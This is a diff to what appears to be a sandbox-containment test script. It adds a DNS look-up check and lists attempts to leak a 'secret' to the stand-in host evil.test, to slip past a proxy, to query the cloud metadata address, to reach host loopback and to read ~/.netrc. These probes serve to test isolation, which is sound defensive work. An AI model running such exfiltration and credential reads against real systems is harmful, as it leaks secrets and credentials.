@@ -24,6 +24,14 @@ def post(opener, url, data):
     return json.load(opener(urllib.request.Request(url, data), timeout=10))["text"]
 
 
+def look_up():
+    """In a sandbox a refused name leads to the gate, by an address that stands for it, and nobody else is asked."""
+    for *_, (address, *_) in socket.getaddrinfo("c2VjcmV0.evil.test", 443):
+        if not address.startswith(("198.18.", "198.19.", "fd73:6c75:6963:")):
+            return address
+    raise OSError("answered by the gate: nothing was looked up")
+
+
 def read(path):
     with open(path) as file:
         return file.read(20)
@@ -70,7 +78,7 @@ attempt("send a secret to evil.test", lambda: post(urllib.request.urlopen, f"htt
 attempt("the same past the proxy", lambda: post(PROXY_LESS.open, f"http://evil.test:{attacker}/", b"secret"))
 attempt("to an address, without a name", lambda: post(PROXY_LESS.open, "http://198.51.100.7/", b"secret"))
 attempt("ask for the keys of the cloud (169.254.169.254)", lambda: post(PROXY_LESS.open, "http://169.254.169.254/latest/", None))
-attempt("hide a secret in a look-up (c2VjcmV0.evil.test)", lambda: socket.getaddrinfo("c2VjcmV0.evil.test", 443))
+attempt("hide a secret in a look-up (c2VjcmV0.evil.test)", look_up)
 attempt("send UDP", by_udp)
 attempt("a service on the host's loopback", lambda: socket.create_connection(("127.0.0.1", int(attacker)), 5))
 attempt("read the home of the user", lambda: read(f"{home}/.netrc"))
